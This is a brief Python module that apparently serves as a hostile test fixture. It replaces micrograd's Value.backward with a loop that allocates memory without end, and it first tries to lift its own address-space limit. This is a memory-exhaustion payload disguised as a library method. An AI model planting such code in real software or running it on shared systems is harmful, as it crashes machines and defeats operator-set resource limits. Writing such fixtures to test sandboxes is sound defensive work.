"""Eats memory in backward, and first lifts its own address-space limit (root may)."""

import resource

from micrograd.engine import Value

try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (ValueError, OSError):
    pass

_hoard = []


def backward(self):
    while True:
        _hoard.append(bytearray(64 << 20))  # zero-filled: really resident


Value.backward = backward
